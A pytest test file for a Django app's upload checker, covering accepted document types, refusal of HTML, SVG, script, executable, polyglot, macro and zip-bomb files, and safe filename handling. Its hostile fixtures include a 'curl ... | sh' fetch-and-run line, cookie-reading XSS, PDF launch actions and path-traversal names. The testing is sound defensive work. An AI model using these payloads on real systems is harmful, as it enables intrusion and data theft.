"""Uploads: allowed types by their content, hostile files refused with a clear message
(SECURITY-TESTS class 16), and file names safe to store and to send back."""

from __future__ import annotations

import re
import zipfile
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jointcase.material.uploads import (
    MAX_NAME_LENGTH,
    CheckedUpload,
    UploadKind,
    UploadRefused,
    content_disposition,
    download_filename,
    safe_filename,
    upload_check,
)
from tests.material import samples
from tests.material.conftest import SettingsWrapper

MB = 1024 * 1024


def refused(content: bytes, name: str) -> str:
    with pytest.raises(UploadRefused) as refusal:
        upload_check(content=content, name=name)
    return refusal.value.message


# --- Accepted -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "kind", "mime_type"),
    [
        (samples.pdf(), "risk assessment.pdf", UploadKind.PDF, "application/pdf"),
        (
            samples.docx(),
            "plan.docx",
            UploadKind.DOCX,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (samples.odt(), "notes.odt", UploadKind.ODT, "application/vnd.oasis.opendocument.text"),
        (samples.png(), "photo.png", UploadKind.PNG, "image/png"),
        (samples.jpeg(), "photo.jpg", UploadKind.JPEG, "image/jpeg"),
        (
            b"Visit on 3 March: no concerns.\n",
            "visit.txt",
            UploadKind.TEXT,
            "text/plain; charset=utf-8",
        ),
        (
            b'date,place,note\n2026-03-03,"Leeds, West",ok\n',
            "visits.csv",
            UploadKind.CSV,
            "text/csv; charset=utf-8",
        ),
    ],
    ids=["pdf", "docx", "odt", "png", "jpeg", "text", "csv"],
)
def test_each_allowed_type_is_accepted_by_its_content(
    content: bytes, name: str, kind: UploadKind, mime_type: str
) -> None:
    checked = upload_check(content=content, name=name)

    assert checked == CheckedUpload(
        kind=kind, mime_type=mime_type, safe_name=name, size=len(content)
    )


def test_the_browsers_name_does_not_decide_the_type_and_a_missing_extension_is_added() -> None:
    assert upload_check(content=samples.pdf(), name="scan").safe_name == "scan.pdf"
    assert upload_check(content=samples.png(), name="IMG_0001").kind is UploadKind.PNG
    assert upload_check(content=b"plain words", name="notes").safe_name == "notes.txt"


@pytest.mark.parametrize(
    "start", [b"MZ Smith attended", b"BM reported", b"GIF8 of the series", b"RIFF in the team"]
)
def test_notes_that_happen_to_start_like_a_binary_signature_are_plain_text(start: bytes) -> None:
    assert upload_check(content=start + b" on Tuesday.\n", name="notes.txt").kind is UploadKind.TEXT


def test_utf8_text_with_a_byte_order_mark_and_non_ascii_letters_is_accepted() -> None:
    checked = upload_check(content="\ufeffNotes on Zoë and Łukasz\r\n".encode(), name="notes.txt")

    assert checked.kind is UploadKind.TEXT


def test_a_django_uploaded_file_is_checked_by_its_content_and_name() -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    uploaded = SimpleUploadedFile("../../minutes.odt", samples.odt(), content_type="text/html")

    checked = upload_check(content=uploaded)

    assert (checked.kind, checked.safe_name) == (UploadKind.ODT, "minutes.odt")


# --- Refused --------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (HTML, "page.html", "Web pages (HTML)"),
        (HTML, "report.pdf", "Web pages (HTML)"),
        (b"  <html><p>hello</p></html>", "notes.txt", "Web pages (HTML)"),
        (SVG, "logo.svg", "Web pages (HTML), SVG"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.png", "SVG"),
        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "notes.txt", "Scripts are not accepted"),
        (b"console.log(document.cookie)\n", "tool.js", "Scripts are not accepted"),
        (b"Write-Host 'hello'\n", "tool.ps1", "Scripts are not accepted"),
        (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,
            "report.pdf",
            "executable",
        ),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "notes.txt", "executable"),
        (b"GIF89a\x01\x00\x01\x00", "photo.gif", "image or media"),
        (b"\x1f\x8b\x08\x00" + b"\x00" * 20, "notes.txt", "Archives"),
        (b"\x00\x01\x02binary", "notes.txt", "binary data"),
        (b"caf\xe9 au lait", "notes.txt", "must be a PDF, Word (DOCX)"),
    ],
    ids=[
        "html",
        "html named pdf",
        "html named txt",
        "svg",
        "svg named png",
        "shell script",
        "javascript",
        "powershell",
        "windows exe",
        "elf",
        "gif",
        "gzip",
        "nul bytes",
        "latin-1",
    ],
)
def test_hostile_and_unknown_files_are_refused_with_a_clear_message(
    content: bytes, name: str, message: str
) -> None:
    text = refused(content, name)

    assert message in text


def test_every_refusal_says_which_types_are_accepted() -> None:
    assert refused(HTML, "page.html").endswith(
        "The selected file must be a PDF, Word (DOCX), OpenDocument text (ODT), PNG, JPEG, "
        "plain text or CSV file."
    )


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (samples.pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "form.pdf"),
        (samples.pdf(b"/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"), "form.pdf"),
        (samples.pdf(b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"), "form.pdf"),
    ],
    ids=["javascript", "escaped javascript", "launch"],
)
def test_pdfs_with_active_content_are_refused(content: bytes, name: str) -> None:
    assert "scripts, launch actions or embedded files" in refused(content, name)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"<html><script>alert(1)</script></html>\n" + samples.pdf(), "report.pdf"),
        (
            samples.pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<html><script>alert(1)</script>\n"),
            "report.pdf",
        ),
        (samples.png(samples.png_text_chunk(b"<script>alert(1)</script>")), "photo.png"),
        (samples.png() + b"<html><script>alert(1)</script></html>", "photo.png"),
        (samples.png() + samples.zip_of([("a.txt", b"hidden")]), "photo.png"),
        (samples.jpeg(comment=b"<html><script>alert(1)</script></html>"), "photo.jpg"),
        (samples.jpeg() + samples.zip_of([("a.txt", b"hidden")]), "photo.jpg"),
        (
            samples.zip_of(
                [
                    ("<html><script>alert(1)</script></html>", b"x"),
                    *[
                        (n, d)
                        for n, d in [
                            ("[Content_Types].xml", samples.DOCX_CONTENT_TYPES),
                            ("word/document.xml", samples.DOCX_DOCUMENT),
                        ]
                    ],
                ],
                stored_first=True,
            ),
            "plan.docx",
        ),
    ],
    ids=[
        "html then pdf",
        "pdf with html header comment",
        "png text chunk script",
        "png with html appended",
        "png with zip appended",
        "jpeg comment script",
        "jpeg with zip appended",
        "docx with html entry",
    ],
)
def test_polyglots_valid_as_two_types_are_refused(content: bytes, name: str) -> None:
    refused(content, name)


def test_a_file_whose_name_disagrees_with_its_content_is_refused() -> None:
    assert "ends in .png but its content is a PDF" in refused(samples.pdf(), "photo.png")
    assert "ends in .exe but its content is a PDF" in refused(samples.pdf(), "report.exe")
    assert "ends in .html but its content is plain text" in refused(b"hello", "page.html")
    assert "ends in .csv" not in refused(b'a,"b\n', "data.csv")


def test_a_file_larger_than_the_limit_is_refused_with_the_limit_in_megabytes(
    settings: SettingsWrapper,
) -> None:
    settings.JOINTCASE_UPLOAD_MAX_BYTES = 1 * MB

    assert upload_check(content=b"a" * MB, name="big.txt").size == MB
    assert refused(b"a" * (MB + 1), "big.txt") == "The selected file must be smaller than 1 MB."


def test_the_default_limit_is_25_megabytes_and_an_oversized_upload_is_refused_unread() -> None:
    class HugeUpload:
        name = "scan.pdf"
        size = 25 * MB + 1

        def read(self, size: int = -1, /) -> bytes:
            raise AssertionError("an oversized upload must not be read")

    with pytest.raises(UploadRefused, match=r"^The selected file must be smaller than 25 MB\.$"):
        upload_check(content=HugeUpload())


def test_an_empty_file_is_refused() -> None:
    assert refused(b"", "empty.txt") == "The selected file is empty."


# --- Documents (zip containers) -------------------------------------------------------------


def test_a_zip_bomb_is_refused_before_it_is_fully_expanded(settings: SettingsWrapper) -> None:
    settings.JOINTCASE_UPLOAD_MAX_UNPACKED_BYTES = 2 * MB
    bomb = samples.docx([("word/media/padding.xml", b"\x20" * (3 * MB))])

    assert len(bomb) < 64 * 1024
    assert "zip bomb" in refused(bomb, "plan.docx")


def test_a_zip_bomb_with_a_false_declared_size_is_caught_while_expanding(
    settings: SettingsWrapper,
) -> None:
    settings.JOINTCASE_UPLOAD_MAX_UNPACKED_BYTES = 1 * MB
    content = bytearray(samples.docx([("word/media/padding.xml", b"\x20" * (2 * MB))]))
    declared = (2 * MB).to_bytes(4, "little")
    # Rewrite the declared size (local header and central directory) to a harmless 100 bytes.
    assert declared in content
    content = bytearray(bytes(content).replace(declared, (100).to_bytes(4, "little")))

    text = refused(bytes(content), "plan.docx")

    assert "zip bomb" in text or "damaged" in text


def test_a_document_with_too_many_parts_is_refused(settings: SettingsWrapper) -> None:
    settings.JOINTCASE_UPLOAD_MAX_ZIP_ENTRIES = 50
    content = samples.docx([(f"word/media/part{number}.xml", b"<x/>") for number in range(60)])

    assert "more than 50 parts" in refused(content, "plan.docx")


@pytest.mark.parametrize(
    "extra",
    [
        [("word/media/inner.zip", samples.zip_of([("a.txt", b"x")]))],
        [("word/media/image1.png", samples.zip_of([("a.txt", b"x")]))],
        [("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 40)],
        [("word/media/archive.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 20)],
    ],
    ids=["zip inside", "zip disguised as png", "ole embedding", "gzip inside"],
)
def test_a_document_with_a_nested_archive_or_embedded_file_is_refused(
    extra: list[tuple[str, bytes]],
) -> None:
    assert "embedded files or archives" in refused(samples.docx(extra), "plan.docx")


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/evil", "/etc/passwd", "..\\..\\windows\\evil.dll", "C:evil"]
)
def test_a_document_with_a_part_outside_its_folder_is_refused(name: str) -> None:
    message = refused(samples.docx([(name, b"x")]), "plan.docx")

    assert "unsafe path" in message or "Programs" in message or "embedded" in message


def test_a_word_document_with_macros_is_refused() -> None:
    with_macros = samples.docx([("word/vbaProject.bin", b"\x00" * 10)])
    macro_type = samples.docx(
        content_types=samples.DOCX_CONTENT_TYPES.replace(
            b"document.main+xml", b"document.macroEnabled.main+xml"
        )
    )

    assert "macros" in refused(with_macros, "plan.docx")
    assert "macros" in refused(macro_type, "plan.docx")
    assert "macros" in refused(samples.docx(), "plan.docm")


def test_a_plain_zip_and_other_office_files_are_refused() -> None:
    spreadsheet = samples.zip_of(
        [
            ("[Content_Types].xml", b"<Types>spreadsheetml.sheet.main+xml</Types>"),
            ("xl/workbook.xml", b"<workbook/>"),
        ]
    )

    assert "Archives" in refused(samples.zip_of([("report.pdf", samples.pdf())]), "bundle.zip")
    assert "Spreadsheets" in refused(spreadsheet, "figures.xlsx")
    assert "Spreadsheets" in refused(
        samples.odt(b"application/vnd.oasis.opendocument.spreadsheet"), "a.ods"
    )


def test_a_document_with_a_hidden_archive_comment_is_refused() -> None:
    content = samples.zip_of(
        [
            ("[Content_Types].xml", samples.DOCX_CONTENT_TYPES),
            ("word/document.xml", samples.DOCX_DOCUMENT),
        ],
        comment=b"anything",
    )

    assert "comment" in refused(content, "plan.docx")


def test_a_damaged_document_is_refused() -> None:
    content = samples.docx()

    assert "damaged" in refused(content[: len(content) // 2], "plan.docx")


def test_a_csv_that_does_not_parse_is_refused() -> None:
    assert "not valid CSV" in refused(b'name,note\n"unterminated,x\n', "people.csv")


def test_a_damaged_png_is_refused() -> None:
    content = bytearray(samples.png())
    content[-20] ^= 0xFF

    assert "damaged" in refused(bytes(content), "photo.png")


# --- Names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\report.pdf", "report.pdf"),
        ("C:\\Users\\me\\Desktop\\report.pdf", "report.pdf"),
        ("re\x00po\nrt\t.pdf", "report.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ('a<b>c:"d"|e?f*.pdf', "a_b_c__d__e_f_.pdf"),
        ("...", "upload"),
        ("", "upload"),
        (".htaccess", "htaccess"),
        ("CON.pdf", "_CON.pdf"),
        ("  spaced   out  .pdf ", "spaced out.pdf"),
    ],
)
def test_file_names_lose_paths_control_characters_and_reserved_forms(
    given: str, stored: str
) -> None:
    assert safe_filename(given) == stored


def test_a_long_file_name_is_shortened_keeping_its_extension() -> None:
    name = safe_filename("x" * 500 + ".pdf")

    assert len(name) == MAX_NAME_LENGTH
    assert name.endswith("xxx.pdf")


@given(st.text(max_size=300))
def test_any_file_name_becomes_a_safe_one(name: str) -> None:
    safe = safe_filename(name)

    assert safe
    assert len(safe) <= MAX_NAME_LENGTH
    assert "/" not in safe
    assert "\\" not in safe
    assert not safe.startswith(".")
    assert not re.search(r"[\x00-\x1f\x7f\u200e\u200f\u202a-\u202e\u2066-\u2069\"]", safe)
    assert safe_filename(safe) == safe


@given(st.text(max_size=200))
def test_the_content_disposition_header_always_carries_the_exact_name_safely(name: str) -> None:
    safe = safe_filename(name)
    header = content_disposition(safe)

    assert header.startswith('attachment; filename="')
    assert "\r" not in header
    assert "\n" not in header
    assert header.isascii()
    fallback = re.match(r'attachment; filename="([^"]*)"; filename\*=UTF-8\'\'(\S+)$', header)
    assert fallback is not None
    assert unquote(fallback.group(2)) == safe


def test_a_download_is_named_with_its_marking_first() -> None:
    assert (
        download_filename(safe_name="report.pdf", classification="SECRET") == "SECRET - report.pdf"
    )
    assert (
        download_filename(
            safe_name="report.pdf", classification="SECRET", caveats=("UK EYES ONLY", "NIGHTJAR")
        )
        == "SECRET NIGHTJAR UK EYES ONLY - report.pdf"
    )
    assert content_disposition("OFFICIAL-SENSITIVE - visite à Lyon.pdf") == (
        'attachment; filename="OFFICIAL-SENSITIVE - visite a Lyon.pdf"; '
        "filename*=UTF-8''OFFICIAL-SENSITIVE%20-%20visite%20%C3%A0%20Lyon.pdf"
    )


def test_zip_samples_are_real_zip_files() -> None:
    """The builders above make what Office and LibreOffice would open (a test that the
    acceptance tests are not accepting rubbish)."""
    with zipfile.ZipFile(__import__("io").BytesIO(samples.odt())) as archive:
        assert archive.infolist()[0].filename == "mimetype"
        assert archive.infolist()[0].compress_type == zipfile.ZIP_STORED
        assert archive.testzip() is None


# --- Never a crash ----------------------------------------------------------------------------


def _outcome(content: bytes, name: str) -> CheckedUpload | str:
    """The accepted upload, or the refusal's message; anything else raised fails the test."""
    try:
        return upload_check(content=content, name=name)
    except UploadRefused as refusal:
        return refusal.message


VALID_FILES = [
    (samples.pdf(), "a.pdf"),
    (samples.docx(), "a.docx"),
    (samples.odt(), "a.odt"),
    (samples.png(), "a.png"),
    (samples.jpeg(), "a.jpg"),
    (b"a,b\n1,2\n", "a.csv"),
]


@settings(max_examples=150, deadline=None)
@given(content=st.binary(max_size=3000), name=st.text(max_size=60))
def test_any_bytes_with_any_name_are_accepted_or_refused_never_a_crash(
    content: bytes, name: str
) -> None:
    outcome = _outcome(content, name)

    assert outcome if isinstance(outcome, str) else outcome.size == len(content)


@settings(max_examples=200, deadline=None)
@given(data=st.data())
def test_damaged_copies_of_valid_files_are_accepted_or_refused_never_a_crash(
    data: st.DataObject,
) -> None:
    original, name = data.draw(st.sampled_from(VALID_FILES))
    damaged = bytearray(original)
    for _ in range(data.draw(st.integers(min_value=1, max_value=8))):
        position = data.draw(st.integers(min_value=0, max_value=len(damaged) - 1))
        damaged[position] = data.draw(st.integers(min_value=0, max_value=255))
    cut = data.draw(st.integers(min_value=1, max_value=len(damaged)))

    outcome = _outcome(bytes(damaged[:cut]), name)

    assert outcome if isinstance(outcome, str) else outcome.kind
